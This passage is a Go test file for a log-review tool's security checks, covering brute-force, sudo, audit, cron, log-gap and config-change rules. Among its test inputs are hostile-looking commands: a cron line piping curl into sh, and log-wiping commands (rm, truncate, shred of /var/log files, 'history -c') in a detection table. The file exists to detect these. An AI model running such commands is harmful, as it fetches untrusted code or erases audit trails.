package check

import (
	"fmt"
	"slices"
	"testing"
	"time"
	"unsafe"

	"github.com/logwarden/logwarden/internal/review/parse"
	"github.com/logwarden/logwarden/internal/review/policy"
)

var kst = time.FixedZone("KST", 9*3600)

// period is November 2026 in KST.
var pStart, pEnd = time.Date(2026, 11, 1, 0, 0, 0, 0, kst), time.Date(2026, 12, 1, 0, 0, 0, 0, kst)

// at returns a KST time in November 2026: day, hour, minute, second.
func at(d, h, m, s int) time.Time { return time.Date(2026, 11, d, h, m, s, 0, kst) }

type rb struct{ line int64 }

func (b *rb) r(t time.Time, k parse.Kind, f func(*parse.Record)) parse.Record {
	b.line++
	r := parse.Record{Time: t, Host: "web1", Kind: k, Source: "var/log/secure", Line: b.line}
	if f != nil {
		f(&r)
	}
	return r
}

func fail(ip, user string) func(*parse.Record) {
	return func(r *parse.Record) { r.Program, r.SrcIP, r.User, r.Method = "sshd", ip, user, "password" }
}

func ok(ip, user string, pid int) func(*parse.Record) {
	return func(r *parse.Record) {
		r.Program, r.SrcIP, r.User, r.Method, r.PID = "sshd", ip, user, "publickey", pid
	}
}

func audit(typ, user, ip, detail string) func(*parse.Record) {
	return func(r *parse.Record) {
		r.Program, r.Method, r.User, r.SrcIP, r.Detail, r.Source = "audit", typ, user, ip, detail, "var/log/audit/audit.log"
	}
}

func ftp(user, method, file, detail string) func(*parse.Record) {
	return func(r *parse.Record) {
		r.Program, r.User, r.SrcIP, r.Method, r.Command, r.Detail, r.Source = "xferlog", user, "192.0.2.80", method, file, detail, "var/log/xferlog"
	}
}

func kernel(name, detail string) func(*parse.Record) {
	return func(r *parse.Record) {
		r.Program, r.Command, r.Detail, r.Source = "kernel", name, detail, "var/log/messages"
	}
}

func run(t *testing.T, p *policy.Policy, recs []parse.Record) map[string]Result {
	t.Helper()
	if p == nil {
		p = policy.Default()
	}
	e := New(p, pStart, pEnd)
	for i := range recs {
		e.Add(&recs[i])
	}
	out := map[string]Result{}
	for _, r := range e.Results() {
		out[r.ID] = r
	}
	return out
}

func burst(b *rb, day, hour int, ip string, n int, spacing time.Duration, users ...string) []parse.Record {
	var out []parse.Record
	for i := 0; i < n; i++ {
		u := "root"
		if len(users) > 0 {
			u = users[i%len(users)]
		}
		out = append(out, b.r(at(day, hour, 0, 0).Add(time.Duration(i)*spacing), parse.KindSSHFailed, fail(ip, u)))
	}
	return out
}

func TestChecks(t *testing.T) {
	tests := []struct {
		name    string
		pol     func(*policy.Policy)
		recs    func(b *rb) []parse.Record
		id      string
		verdict Verdict
		items   int
		counts  map[string]int
	}{
		{"R01 below notice", nil, func(b *rb) []parse.Record { return burst(b, 2, 3, "198.51.100.7", 4, time.Minute) },
			"R01", Pass, 0, map[string]int{"failures": 4}},
		{"R01 notice", nil, func(b *rb) []parse.Record { return burst(b, 2, 3, "198.51.100.7", 5, time.Minute) },
			"R01", Notice, 1, map[string]int{"failures": 5, "source_ips": 1}},
		{"R01 repeated line counts", nil, func(b *rb) []parse.Record {
			out := burst(b, 2, 3, "198.51.100.7", 1, time.Minute)
			out[0].Repeat = 5
			return out
		}, "R01", Notice, 1, map[string]int{"failures": 5}},
		{"R01 spread out stays pass", nil, func(b *rb) []parse.Record { return burst(b, 2, 3, "198.51.100.7", 30, 3*time.Minute) },
			"R01", Pass, 0, nil},
		{"R01 finding in window", nil, func(b *rb) []parse.Record { return burst(b, 2, 3, "198.51.100.7", 20, 10*time.Second) },
			"R01", Finding, 1, nil},
		{"R01 finding daily", nil, func(b *rb) []parse.Record { return burst(b, 2, 0, "198.51.100.7", 100, 10*time.Minute) },
			"R01", Finding, 1, nil},
		{"R01 two IPs", nil, func(b *rb) []parse.Record {
			return append(burst(b, 2, 3, "198.51.100.7", 6, time.Second), burst(b, 3, 3, "203.0.113.9", 25, time.Second)...)
		}, "R01", Finding, 2, map[string]int{"source_ips": 2}},
		{"R01 btmp duplicate not counted", nil, func(b *rb) []parse.Record {
			out := burst(b, 2, 3, "198.51.100.7", 4, time.Minute)
			for _, r := range out[:4] {
				d := r
				d.Kind, d.Program, d.Source = parse.KindBtmpFailed, "btmp", "var/log/btmp"
				out = append(out, d)
			}
			return out
		}, "R01", Pass, 0, map[string]int{"failures": 4}},
		{"R02 spray", nil, func(b *rb) []parse.Record {
			return burst(b, 4, 1, "192.0.2.50", 10, 30*time.Second, "a", "b", "c", "d", "e", "f", "g", "h", "i", "j")
		}, "R02", Finding, 1, nil},
		{"R02 nine users pass", nil, func(b *rb) []parse.Record {
			return burst(b, 4, 1, "192.0.2.50", 18, 30*time.Second, "a", "b", "c", "d", "e", "f", "g", "h", "i")
		}, "R02", Pass, 0, nil},
		{"R03 account notice", nil, func(b *rb) []parse.Record {
			var out []parse.Record
			for i := 0; i < 10; i++ {
				out = append(out, b.r(at(5, 1, 0, 0).Add(time.Duration(i)*time.Hour), parse.KindSSHFailed, fail(fmt.Sprintf("10.9.0.%d", i), "alice")))
			}
			return out
		}, "R03", Notice, 1, map[string]int{"failures_existing_accounts": 10}},
		{"R03 invalid users ignored", nil, func(b *rb) []parse.Record {
			var out []parse.Record
			for i := 0; i < 12; i++ {
				out = append(out, b.r(at(5, 1, i, 0), parse.KindSSHFailed, func(r *parse.Record) {
					fail("10.9.0.1", "ghost")(r)
					r.Detail = parse.DetailInvalidUser
				}))
			}
			return out
		}, "R03", Pass, 0, map[string]int{"failures_existing_accounts": 0}},
		{"R03 root lockout", nil, func(b *rb) []parse.Record {
			return []parse.Record{b.r(at(5, 1, 0, 0), parse.KindAccountLocked, func(r *parse.Record) { r.User = "root" })}
		}, "R03", Finding, 1, map[string]int{"lockouts": 1}},
		{"R04 success after failures", nil, func(b *rb) []parse.Record {
			out := burst(b, 6, 2, "198.51.100.7", 5, time.Minute, "alice")
			return append(out, b.r(at(6, 2, 10, 0), parse.KindSSHAccepted, ok("198.51.100.7", "alice", 10)))
		}, "R04", Finding, 1, map[string]int{"logins": 1}},
		{"R04 failures too old", nil, func(b *rb) []parse.Record {
			out := burst(b, 6, 2, "198.51.100.7", 5, time.Minute, "alice")
			return append(out, b.r(at(6, 3, 30, 0), parse.KindSSHAccepted, ok("198.51.100.7", "alice", 10)))
		}, "R04", Pass, 0, nil},
		{"R05 remote root", nil, func(b *rb) []parse.Record {
			return []parse.Record{b.r(at(9, 10, 0, 0), parse.KindSSHAccepted, ok("203.0.113.5", "root", 1))}
		}, "R05", Finding, 1, map[string]int{"root_logins": 1}},
		{"R05 console root", nil, func(b *rb) []parse.Record {
			return []parse.Record{b.r(at(9, 10, 0, 0), parse.KindRootLoginConsole, func(r *parse.Record) { r.User, r.TTY = "root", "tty1" })}
		}, "R05", Notice, 1, nil},
		{"R05 refused only", nil, func(b *rb) []parse.Record {
			return []parse.Record{b.r(at(9, 10, 0, 0), parse.KindSSHRootRefused, func(r *parse.Record) { r.User, r.SrcIP = "root", "1.2.3.4" })}
		}, "R05", Pass, 0, map[string]int{"root_refused": 1}},
		{"R06 su by non-member", func(p *policy.Policy) { p.AllowedSuUsers = []string{"alice"} }, func(b *rb) []parse.Record {
			return []parse.Record{
				b.r(at(9, 10, 0, 0), parse.KindSuSuccess, func(r *parse.Record) { r.User, r.TargetUser = "alice", "root" }),
				b.r(at(9, 11, 0, 0), parse.KindSuSuccess, func(r *parse.Record) { r.User, r.TargetUser = "mallory", "root" }),
			}
		}, "R06", Finding, 2, map[string]int{"su_success": 2}},
		{"R06 su failure", func(p *policy.Policy) { p.AllowedSuUsers = []string{"alice"} }, func(b *rb) []parse.Record {
			return []parse.Record{b.r(at(9, 10, 0, 0), parse.KindSuFailure, func(r *parse.Record) { r.User, r.TargetUser = "alice", "root" })}
		}, "R06", Notice, 1, map[string]int{"su_failure": 1}},
		{"R07 not in sudoers", nil, func(b *rb) []parse.Record {
			return []parse.Record{b.r(at(9, 10, 0, 0), parse.KindSudoNotAllowed, func(r *parse.Record) { r.User, r.Detail = "bob", "not_in_sudoers" })}
		}, "R07", Finding, 1, map[string]int{"sudo_denied": 1}},
		{"R07 shell escalation", nil, func(b *rb) []parse.Record {
			return []parse.Record{
				b.r(at(9, 10, 0, 0), parse.KindSudoCommand, func(r *parse.Record) { r.User, r.TargetUser, r.Command = "alice", "root", "/bin/bash" }),
				b.r(at(9, 10, 1, 0), parse.KindSudoCommand, func(r *parse.Record) {
					r.User, r.TargetUser, r.Command = "alice", "root", "/usr/bin/systemctl restart nginx"
				}),
			}
		}, "R07", Notice, 1, map[string]int{"sudo_commands": 2, "high_risk_commands": 1}},
		{"R18 no audit log", nil, func(b *rb) []parse.Record { return burst(b, 2, 3, "198.51.100.7", 1, time.Minute) },
			"R18", NA, 0, nil},
		{"R18 rule change", nil, func(b *rb) []parse.Record {
			return []parse.Record{
				b.r(at(9, 10, 0, 0), parse.KindAudit, audit("CONFIG_CHANGE", "", "", "res=1 op=remove_rule")),
				b.r(at(9, 10, 0, 1), parse.KindAudit, audit("USER_CMD", "alice", "", "res=success")),
				b.r(at(9, 10, 0, 2), parse.KindAudit, audit("SYSCALL", "", "", "res=success")),
			}
		}, "R18", Finding, 1, map[string]int{"records": 3, "config_changes": 1, "user_commands": 1, "syscalls": 1, "login_failures": 0}},
		{"R18 failures below threshold are info", nil, func(b *rb) []parse.Record {
			var out []parse.Record
			for i := 0; i < 4; i++ {
				out = append(out, b.r(at(9, 10, i, 0), parse.KindAudit, audit("USER_LOGIN", "admin", "198.51.100.7", "res=failed op=login")))
			}
			return append(out, b.r(at(9, 11, 0, 0), parse.KindAudit, audit("USER_LOGIN", "alice", "10.0.0.5", "res=success op=login")))
		}, "R18", Pass, 1, map[string]int{"logins": 5, "login_failures": 4}},
		{"R18 failures at threshold", nil, func(b *rb) []parse.Record {
			var out []parse.Record
			for i := 0; i < 5; i++ {
				out = append(out, b.r(at(9, 10, i, 0), parse.KindAudit, audit("USER_AUTH", "admin", "198.51.100.7", "res=failed op=PAM:authentication")))
			}
			return out
		}, "R18", Notice, 1, map[string]int{"authentications": 5, "auth_failures": 5}},
		{"R18 anomaly and auditd stop", nil, func(b *rb) []parse.Record {
			return []parse.Record{
				b.r(at(9, 10, 0, 0), parse.KindAudit, audit("ANOM_PROMISCUOUS", "auid:1000", "", "")),
				b.r(at(9, 10, 5, 0), parse.KindAudit, audit("DAEMON_END", "", "", "res=success op=terminate")),
			}
		}, "R18", Notice, 2, map[string]int{"anomalies": 1, "daemon_events": 1}},
		{"R19 no xferlog", nil, func(b *rb) []parse.Record { return burst(b, 2, 3, "198.51.100.7", 1, time.Minute) },
			"R19", NA, 0, nil},
		{"R19 approved uploader and real-user download pass", func(p *policy.Policy) { p.ApprovedFTPUploaders = []string{"alice"} }, func(b *rb) []parse.Record {
			return []parse.Record{
				b.r(at(4, 10, 0, 0), parse.KindFTPTransfer, ftp("alice", "upload", "/home/alice/a.sh", "mode=r bytes=10 status=c")),
				b.r(at(4, 10, 1, 0), parse.KindFTPTransfer, ftp("bob", "download", "/home/bob/b.txt", "mode=r bytes=10 status=i")),
			}
		}, "R19", Pass, 0, map[string]int{"transfers": 2, "uploads": 1, "downloads": 1, "incomplete": 1}},
		{"R19 anonymous, unapproved upload, delete", nil, func(b *rb) []parse.Record {
			return []parse.Record{
				b.r(at(4, 10, 0, 0), parse.KindFTPTransfer, ftp("anonymous@", "download", "/pub/x.tgz", "mode=a bytes=10 status=c")),
				b.r(at(4, 10, 0, 5), parse.KindFTPTransfer, ftp("anonymous@", "download", "/pub/y.tgz", "mode=a bytes=10 status=c")),
				b.r(at(4, 10, 1, 0), parse.KindFTPTransfer, ftp("alice", "upload", "/home/alice/a.sh", "mode=r bytes=10 status=c")),
				b.r(at(4, 10, 2, 0), parse.KindFTPTransfer, ftp("alice", "delete", "/home/alice/old", "mode=r bytes=0 status=c")),
			}
		}, "R19", Notice, 3, map[string]int{"transfers": 4, "anonymous": 2, "deletes": 1}},
		{"R20 no system log", nil, func(b *rb) []parse.Record { return burst(b, 2, 3, "198.51.100.7", 1, time.Minute) },
			"R20", NA, 0, nil},
		{"R20 one segfault is info", nil, func(b *rb) []parse.Record {
			return []parse.Record{b.r(at(4, 2, 0, 0), parse.KindKernelSegfault, kernel("a.out", "pid=1"))}
		}, "R20", Pass, 1, map[string]int{"segfaults": 1}},
		{"R20 segfault burst", nil, func(b *rb) []parse.Record {
			var out []parse.Record
			for i := 0; i < 5; i++ {
				out = append(out, b.r(at(4, 2, i*10, 0), parse.KindKernelSegfault, kernel("a.out", fmt.Sprintf("pid=%d", i))))
			}
			return out
		}, "R20", Notice, 1, map[string]int{"segfaults": 5}},
		{"R20 segfaults spread over hours", nil, func(b *rb) []parse.Record {
			var out []parse.Record
			for i := 0; i < 5; i++ {
				out = append(out, b.r(at(4, 2+i, 0, 0), parse.KindKernelSegfault, kernel("a.out", fmt.Sprintf("pid=%d", i))))
			}
			return out
		}, "R20", Pass, 1, nil},
		{"R20 oom, promiscuous, taint", nil, func(b *rb) []parse.Record {
			return []parse.Record{
				b.r(at(4, 2, 0, 0), parse.KindKernelOOM, kernel("java", "pid=4242")),
				b.r(at(4, 2, 1, 0), parse.KindKernelOOM, kernel("java", "pid=4243")),
				b.r(at(4, 3, 0, 0), parse.KindKernelPromisc, kernel("eth0", "")),
				b.r(at(4, 4, 0, 0), parse.KindKernelTaint, kernel("rootkit", "unsigned")),
			}
		}, "R20", Notice, 3, map[string]int{"oom_kills": 2, "promiscuous": 1, "tainted_modules": 1}},
		{"R08 uid 0", nil, func(b *rb) []parse.Record {
			return []parse.Record{b.r(at(9, 10, 0, 0), parse.KindUserMod, func(r *parse.Record) { r.User, r.Detail = "bob", "uid 1001->0" })}
		}, "R08", Finding, 1, nil},
		{"R08 wheel add", nil, func(b *rb) []parse.Record {
			return []parse.Record{
				b.r(at(9, 10, 0, 0), parse.KindUserAdd, func(r *parse.Record) { r.User, r.Detail = "bob", "uid=1001 gid=1001" }),
				b.r(at(9, 10, 0, 1), parse.KindGroupMemberAdd, func(r *parse.Record) { r.User, r.Group = "bob", "wheel" }),
			}
		}, "R08", Finding, 2, map[string]int{"changes": 2}},
		{"R08 useradd only is info", nil, func(b *rb) []parse.Record {
			return []parse.Record{b.r(at(9, 10, 0, 0), parse.KindUserAdd, func(r *parse.Record) { r.User, r.Detail = "bob", "uid=1001 gid=1001" })}
		}, "R08", Pass, 1, nil},
		{"R09 night, weekend, holiday", nil, func(b *rb) []parse.Record {
			return []parse.Record{
				b.r(at(2, 3, 0, 0), parse.KindSSHAccepted, ok("10.0.0.5", "alice", 1)),  // Mon 03:00
				b.r(at(7, 12, 0, 0), parse.KindSSHAccepted, ok("10.0.0.5", "alice", 2)), // Sat
				b.r(at(2, 10, 0, 0), parse.KindSSHAccepted, ok("10.0.0.5", "alice", 3)), // Mon 10:00
			}
		}, "R09", Notice, 1, map[string]int{"logins": 3, "off_hours_logins": 2}},
		{"R10 expected source missing", func(p *policy.Policy) { p.ExpectedSources = []string{"auth", "cron"} }, func(b *rb) []parse.Record {
			var out []parse.Record
			for h := 0; h < 30*24; h += 6 {
				out = append(out, b.r(pStart.Add(time.Duration(h)*time.Hour), parse.KindOther, nil))
			}
			return out
		}, "R10", Finding, 1, map[string]int{"gaps": 0}},
		{"R10 gap", nil, func(b *rb) []parse.Record {
			var out []parse.Record
			for h := 0; h < 30*24; h += 2 {
				if h > 100 && h < 140 {
					continue
				}
				out = append(out, b.r(pStart.Add(time.Duration(h)*time.Hour), parse.KindOther, nil))
			}
			return out
		}, "R10", Notice, 2, map[string]int{"gaps": 1}}, // the gap, and coverage 94.5% < 95%
		{"R10 log wipe", nil, func(b *rb) []parse.Record {
			var out []parse.Record
			for h := 0; h < 30*24; h += 2 {
				out = append(out, b.r(pStart.Add(time.Duration(h)*time.Hour), parse.KindOther, nil))
			}
			return append(out, b.r(at(30, 23, 0, 1), parse.KindSudoCommand, func(r *parse.Record) { r.User, r.Command = "eve", "/bin/rm -f /var/log/secure" }))
		}, "R10", Finding, 1, map[string]int{"log_wipe_commands": 1}},
		{"R11 rsyslog stop", nil, func(b *rb) []parse.Record {
			return []parse.Record{
				b.r(at(9, 1, 0, 0), parse.KindServiceStop, func(r *parse.Record) { r.Program, r.Detail = "systemd", "rsyslog.service - System Logging Service" }),
				b.r(at(9, 1, 5, 0), parse.KindServiceStop, func(r *parse.Record) { r.Program, r.Detail = "systemd", "nginx.service" }),
			}
		}, "R11", Finding, 1, map[string]int{"service_stops": 2}},
		{"R11 stop before reboot is notice", nil, func(b *rb) []parse.Record {
			return []parse.Record{
				b.r(at(9, 1, 0, 0), parse.KindServiceStop, func(r *parse.Record) { r.Program, r.Detail = "systemd", "auditd.service" }),
				b.r(at(9, 1, 1, 0), parse.KindShutdown, nil),
				b.r(at(9, 1, 3, 0), parse.KindBoot, nil),
			}
		}, "R11", Notice, 3, map[string]int{"boots": 1, "shutdowns": 1}},
		{"R12 n/a without networks", nil, func(b *rb) []parse.Record { return nil }, "R12", NA, 0, nil},
		{"R12 unapproved", func(p *policy.Policy) { p.ApprovedAdminCIDRs = []string{"10.0.0.0/8"} }, func(b *rb) []parse.Record {
			return []parse.Record{
				b.r(at(2, 10, 0, 0), parse.KindSSHAccepted, ok("10.0.0.5", "alice", 1)),
				b.r(at(2, 10, 5, 0), parse.KindSSHAccepted, ok("203.0.113.5", "alice", 2)),
			}
		}, "R12", Finding, 1, map[string]int{"remote_logins": 2}},
		{"R13 n/a without baseline", nil, func(b *rb) []parse.Record { return nil }, "R13", NA, 0, nil},
		{"R15 crontab replace and bad cmd", nil, func(b *rb) []parse.Record {
			return []parse.Record{
				b.r(at(2, 10, 0, 0), parse.KindCronEdit, func(r *parse.Record) { r.User, r.Detail = "root", "REPLACE" }),
				b.r(at(2, 10, 1, 0), parse.KindCronCmd, func(r *parse.Record) { r.User, r.Command = "root", "curl http://x | sh" }),
				b.r(at(2, 10, 2, 0), parse.KindCronCmd, func(r *parse.Record) { r.User, r.Command = "root", "/usr/lib64/sa/sa1 1 1" }),
			}
		}, "R15", Finding, 2, map[string]int{"cron_commands": 2, "crontab_changes": 1}},
		{"R16 clock", nil, func(b *rb) []parse.Record {
			return []parse.Record{b.r(at(2, 10, 0, 0), parse.KindClockChange, nil)}
		}, "R16", Notice, 1, nil},
		{"R17 concurrent and long", nil, func(b *rb) []parse.Record {
			closeF := func(pid int) func(*parse.Record) {
				return func(r *parse.Record) { r.Method, r.User, r.PID = "sshd", "ops", pid }
			}
			return []parse.Record{
				b.r(at(2, 10, 0, 0), parse.KindSSHAccepted, ok("10.0.0.5", "ops", 100)),
				b.r(at(2, 10, 30, 0), parse.KindSSHAccepted, ok("10.0.0.6", "ops", 101)),
				b.r(at(2, 11, 0, 0), parse.KindPAMSessionClose, closeF(101)),
				b.r(at(3, 1, 0, 0), parse.KindPAMSessionClose, closeF(100)),
			}
		}, "R17", Notice, 2, map[string]int{"sessions": 2, "long_sessions": 1, "concurrent": 1}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := policy.Default()
			if tt.pol != nil {
				tt.pol(p)
			}
			res := run(t, p, tt.recs(&rb{}))[tt.id]
			if res.Verdict != tt.verdict {
				t.Errorf("%s verdict = %s, want %s; items: %+v", tt.id, res.Verdict, tt.verdict, res.Items)
			}
			if len(res.Items) != tt.items {
				t.Errorf("%s items = %d, want %d: %+v", tt.id, len(res.Items), tt.items, res.Items)
			}
			for k, v := range tt.counts {
				if res.Counts[k] != v {
					t.Errorf("%s counts[%s] = %d, want %d (all: %v)", tt.id, k, res.Counts[k], v, res.Counts)
				}
			}
			for _, it := range res.Items {
				if it.Severity != SevInfo && it.Key == "" {
					t.Errorf("item without key: %+v", it)
				}
				if len(it.Evidence) > MaxRefs {
					t.Errorf("item has %d refs, more than %d", len(it.Evidence), MaxRefs)
				}
			}
		})
	}
}

func TestResults_OrderIndependent(t *testing.T) {
	b := &rb{}
	recs := append(burst(b, 2, 3, "198.51.100.7", 25, time.Second, "a", "b", "c"), burst(b, 2, 3, "203.0.113.9", 7, time.Second)...)
	recs = append(recs, b.r(at(2, 3, 5, 0), parse.KindSSHAccepted, ok("198.51.100.7", "a", 9)))
	fwd := run(t, nil, recs)
	rev := make([]parse.Record, len(recs))
	for i := range recs {
		rev[len(recs)-1-i] = recs[i]
	}
	bwd := run(t, nil, rev)
	for id, r := range fwd {
		if fmt.Sprint(r) != fmt.Sprint(bwd[id]) {
			t.Errorf("%s differs with input order:\n%v\n%v", id, r, bwd[id])
		}
	}
}

func TestEvidenceRefs(t *testing.T) {
	b := &rb{}
	recs := burst(b, 2, 3, "198.51.100.7", 6, time.Second)
	res := run(t, nil, recs)["R01"]
	if len(res.Items) != 1 {
		t.Fatalf("items = %d", len(res.Items))
	}
	it := res.Items[0]
	if it.EvidenceTotal != 6 || len(it.Evidence) != 6 || it.Evidence[0] != (Ref{"var/log/secure", 1, 0}) || it.Evidence[5].Line != 6 {
		t.Fatalf("evidence = %+v (total %d)", it.Evidence, it.EvidenceTotal)
	}
	if it.Key != "R01|web1|198.51.100.7" {
		t.Fatalf("key = %q", it.Key)
	}
}

func TestCoverage(t *testing.T) {
	b := &rb{}
	var recs []parse.Record
	for h := 0; h < 30*24; h++ {
		if h >= 48 && h < 80 { // 32 h silent on 3–4 Nov
			continue
		}
		recs = append(recs, b.r(pStart.Add(time.Duration(h)*time.Hour+time.Minute), parse.KindOther, nil))
	}
	recs = append(recs, b.r(pStart.Add(-time.Hour), parse.KindOther, nil))
	e := New(policy.Default(), pStart, pEnd)
	for i := range recs {
		e.Add(&recs[i])
	}
	cov := e.Coverage()
	if len(cov) != 1 {
		t.Fatalf("coverage sources = %d", len(cov))
	}
	c := cov[0]
	if c.Records != 30*24-32 || c.OutOfPeriod != 1 {
		t.Errorf("records %d out %d", c.Records, c.OutOfPeriod)
	}
	if len(c.PerDay) != 30 || c.PerDay[0] != 24 || c.PerDay[2] != 0 || c.PerDay[3] != 16 {
		t.Errorf("per day = %v", c.PerDay)
	}
	if len(c.Gaps) != 1 || c.Gaps[0].Hours != 32 {
		t.Errorf("gaps = %+v", c.Gaps)
	}
	if want := (720 - 32) * 1000 / 720; c.CoveragePermille != want {
		t.Errorf("coverage = %d‰, want %d", c.CoveragePermille, want)
	}
	if c.NonMonotonic != 1 {
		t.Errorf("non-monotonic = %d, want 1 (the record an hour before the period came last)", c.NonMonotonic)
	}
}

func TestStreamOf(t *testing.T) {
	for in, want := range map[string]string{
		"var/log/secure":                "var/log/secure",
		"var/log/secure-20261101":       "var/log/secure",
		"var/log/secure-20261101.gz":    "var/log/secure",
		"var/log/auth.log.1":            "var/log/auth.log",
		"var/log/auth.log.2.gz":         "var/log/auth.log",
		"var/log/wtmp.1":                "var/log/wtmp",
		"/var/log/secure/i-0123-web1":   "/var/log/secure/i-0123-web1",
		"var/log/audit/audit.log":       "var/log/audit/audit.log",
		"var/log/messages-2026":         "var/log/messages-2026",
		"var/log/cloud-init-output.log": "var/log/cloud-init-output.log",
	} {
		if got := StreamOf(in); got != want {
			t.Errorf("StreamOf(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestIsLogWipe(t *testing.T) {
	for cmd, want := range map[string]bool{
		"/bin/rm -f /var/log/secure":           true,
		"/usr/bin/truncate -s 0 /var/log/wtmp": true,
		"/usr/bin/shred -u /var/log/btmp":      true,
		"/bin/cat /var/log/secure":             false,
		"/bin/sh -c history -c":                true,
		"/usr/bin/systemctl restart rsyslog":   false,
		"/bin/rm -rf /tmp/cache":               false,
	} {
		if got := isLogWipe(cmd); got != want {
			t.Errorf("isLogWipe(%q) = %v, want %v", cmd, got, want)
		}
	}
}

// TestRecSize guards the per-event memory: a month of a busy host holds
// millions of recs.
func TestRecSize(t *testing.T) {
	if got := unsafe.Sizeof(rec{}); got > 32 {
		t.Fatalf("rec is %d bytes, want at most 32", got)
	}
}

// TestRec_VK checks that v, kind and flags survive packing into rec.vk,
// at their limits too.
func TestRec_VK(t *testing.T) {
	tests := []struct {
		v  int32
		k  kind
		fl uint8
	}{
		{0, kOther, 0},
		{4194303, kLoginOK, fSecondary | fConsole}, // PID_MAX_LIMIT-1
		{maxV, kLogout, fSecondary | fInvalid | fConsole | fWidePos},
		{12345, kLoginFail, fInvalid},
	}
	if kLogout >= 1<<kindBits {
		t.Fatalf("%d kinds do not fit in %d bits", kLogout+1, kindBits)
	}
	for _, tc := range tests {
		x := rec{vk: mkVK(tc.v, tc.k, tc.fl)}
		if x.v() != tc.v || x.kind() != tc.k || x.flags() != tc.fl {
			t.Errorf("mkVK(%d, %d, %b): v=%d kind=%d flags=%b", tc.v, tc.k, tc.fl, x.v(), x.kind(), x.flags())
		}
	}
}

// TestEngine_Origins checks that records keep their input and host through
// the shared origin index, and that a pid too large to pack is dropped.
func TestEngine_Origins(t *testing.T) {
	e := New(policy.Default(), pStart, pEnd)
	defer e.Release()
	at := pStart.Add(time.Hour)
	add := func(src, host string, pid int) {
		e.Add(&parse.Record{Source: src, Host: host, Time: at, Kind: parse.KindSSHAccepted, User: "alice", SrcIP: "192.0.2.1", PID: pid, Line: 1})
	}
	add("var/log/secure", "web01", 100)
	add("var/log/secure", "web02", 1<<vBits)
	add("var/log/messages", "web01", 200)
	add("var/log/secure", "web01", 300)
	e.gather()
	want := []struct {
		src, host string
		pid       int32
	}{{"var/log/secure", "web01", 100}, {"var/log/secure", "web02", 0}, {"var/log/messages", "web01", 200}, {"var/log/secure", "web01", 300}}
	if len(e.evs) != len(want) || len(e.orgs) != 3 {
		t.Fatalf("%d records, %d origins; want %d, 3", len(e.evs), len(e.orgs), len(want))
	}
	for i, w := range want {
		x := e.evs[i]
		if src, host := e.files[e.srcOf(x)], e.strs[e.hostOf(x)]; src != w.src || host != w.host || pidOf(x) != w.pid {
			t.Errorf("record %d: %s %s pid %d, want %s %s pid %d", i, src, host, pidOf(x), w.src, w.host, w.pid)
		}
	}
}

// TestPosPacking checks that line and offset survive packing, and that
// positions too large to pack fall back to the side table.
func TestPosPacking(t *testing.T) {
	tests := []struct {
		line, off int64
		packed    bool
	}{
		{1, 0, true},
		{7, -1, true}, // CloudWatch events: no offset
		{0, 123, true},
		{1<<posLineBits - 1, 1<<posOffBits - 2, true},
		{1 << posLineBits, 5, false},
		{3, 1<<posOffBits - 1, false},
		{-1, 5, false},
		{9, -2, false},
	}
	for _, tc := range tests {
		e := &Engine{}
		var x rec
		if p, ok := packPos(tc.line, tc.off); ok {
			x.pos = p
		} else {
			x.pos = uint64(len(e.wide))
			x.setFlag(fWidePos)
			e.wide = append(e.wide, wherePos{tc.line, tc.off})
		}
		if got := x.flags()&fWidePos == 0; got != tc.packed {
			t.Errorf("packPos(%d, %d): packed=%v, want %v", tc.line, tc.off, got, tc.packed)
		}
		if l, o := e.posOf(x); l != tc.line || o != tc.off {
			t.Errorf("posOf(pack(%d, %d)) = %d, %d", tc.line, tc.off, l, o)
		}
	}
}

// TestTableGrows pushes records across several growths of the event table
// and reads them back.
func TestTableGrows(t *testing.T) {
	const n = 200_000 // several doublings of the first mapping
	var tab table
	for i := 0; i < n; i++ {
		tab.push(rec{t: int64(i), user: uint32(i * 7)})
	}
	got := tab.recs()
	if len(got) != n {
		t.Fatalf("len = %d, want %d", len(got), n)
	}
	for i, x := range got {
		if x.t != int64(i) || x.user != uint32(i*7) {
			t.Fatalf("record %d = %+v", i, x)
		}
	}
	tab.release()
	if len(tab.recs()) != 0 {
		t.Fatalf("records left after release: %d", len(tab.recs()))
	}
}

// TestAddAfterResults: records added after judging (they then go to the Go
// heap, not the mapped table) are judged by the next Results; Release frees
// the table.
func TestAddAfterResults(t *testing.T) {
	e := New(policy.Default(), pStart, pEnd)
	var b rb
	at := time.Date(2026, 11, 3, 10, 0, 0, 0, kst)
	for i := 0; i < 3; i++ {
		r := b.r(at.Add(time.Duration(i)*time.Second), parse.KindSSHFailed, fail("198.51.100.9", "root"))
		e.Add(&r)
	}
	failures := func() int {
		for _, r := range e.Results() {
			if r.ID == "R01" {
				return r.Counts["failures"]
			}
		}
		return -1
	}
	if got := failures(); got != 3 {
		t.Fatalf("R01 failures = %d, want 3", got)
	}
	for i := 3; i < 5; i++ {
		r := b.r(at.Add(time.Duration(i)*time.Second), parse.KindSSHFailed, fail("198.51.100.9", "root"))
		e.Add(&r)
	}
	if got := failures(); got != 5 {
		t.Fatalf("R01 failures after more records = %d, want 5", got)
	}
	e.Release()
}

// TestR21 judges configuration files against the previous report's.
func TestR21(t *testing.T) {
	f := func(path, sum, mode string, uid int) ConfigFile {
		return ConfigFile{Path: path, SHA256: sum, Mode: mode, UID: uid, ModTime: pStart.Add(time.Hour)}
	}
	base := []ConfigFile{f("etc/rsyslog.conf", "aa", "0640", 0), f("etc/ssh/sshd_config", "bb", "0600", 0), f("etc/sudoers", "cc", "0440", 0)}
	tests := []struct {
		name      string
		set       bool
		cur, prev []ConfigFile
		verdict   Verdict
		keys      []string
	}{
		{"not a file review", false, nil, nil, NA, nil},
		{"no files", true, nil, nil, NA, nil},
		{"unchanged", true, base, base, Pass, nil},
		{"first period", true, base, nil, Pass, nil},
		{"changed, new, removed", true,
			[]ConfigFile{f("etc/rsyslog.conf", "aa", "0640", 0), f("etc/ssh/sshd_config", "b2", "0600", 0), f("etc/pam.d/sshd", "dd", "0644", 0)},
			base, Notice, []string{"R21||changed:etc/ssh/sshd_config", "R21||removed:etc/sudoers", "R21||new:etc/pam.d/sshd"}},
		{"owner and modes", true,
			[]ConfigFile{f("etc/rsyslog.conf", "aa", "0644", 0), f("etc/ssh/sshd_config", "bb", "0666", 0), f("etc/sudoers", "cc", "0440", 1000)},
			base, Notice, []string{"R21||mode:etc/rsyslog.conf", "R21||writable:etc/ssh/sshd_config", "R21||owner:etc/sudoers"}},
		{"unreadable is info", true,
